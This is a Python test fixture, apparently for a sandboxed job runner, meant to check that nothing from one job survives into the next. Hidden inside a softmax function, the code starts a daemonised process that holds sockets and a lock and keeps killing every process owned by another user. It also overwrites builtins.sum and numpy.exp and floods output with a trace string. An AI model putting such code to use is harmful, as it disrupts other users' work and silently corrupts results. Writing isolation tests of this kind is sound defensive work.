# expect: accepted
# why: leave live things for the next job, which may run in the same long-lived container:
#   daemonised (setsid) children that hold an abstract Unix socket, a loopback TCP port and a
#   file lock, and keep trying to kill every process of
#   another uid; a changed environment,
#   builtins, NumPy and runner modules; and this source and 200 KB of output in a pattern
#   the next job looks for in its own memory. crossjob_check_live.py, graded right after,
#   must meet none of it: every process of a job is killed before the next starts, and no
#   job's code, data or output passes through the memory the next job is forked from.
import builtins
import fcntl
import math
import os
import signal
import socket
import sys
import time

import numpy

TRACE = "Zq" * 3000  # what the next job must not find in its memory (its source carried it)
PORT = 47811


def linger():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        held = []
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind("\0arena-abuse-crossjob")
        unix.listen(4)
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tcp.bind(("127.0.0.1", PORT))
        tcp.listen(4)
        lock = open(os.path.join(os.getcwd(), "arena-abuse-lock"), "w")
        fcntl.flock(lock, fcntl.LOCK_EX)
        held += [unix, tcp, lock]
        while True:  # and kill whatever comes next: any process not of this job's uid
            for name in os.listdir("/proc"):
                if name.isdigit() and os.stat(f"/proc/{name}").st_uid != os.getuid():
                    try:
                        os.kill(int(name), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.01)
    except OSError:
        pass
    finally:
        os._exit(0)


def tamper():
    os.environ["ARENA_ABUSE_PLANTED"] = "1"
    builtins.sum = lambda *args, **kwargs: 0.0
    builtins.arena_abuse_planted = True
    numpy.exp = lambda x: x
    sys.modules["arena_abuse_planted"] = sys
    for module in (sys.modules.get("runner"), sys.modules.get("json")):
        if module is not None:
            module.arena_abuse_planted = True


planted = []


def softmax(row):
    if not planted:
        planted.append(linger())
        sys.stderr.write(TRACE * 33)
        tamper()  # nothing of this job's own answer uses what it changes
    top = sorted(row)[-1]
    exps = [math.exp(x - top) for x in row]
    total = math.fsum(exps)
    return [e / total for e in exps]
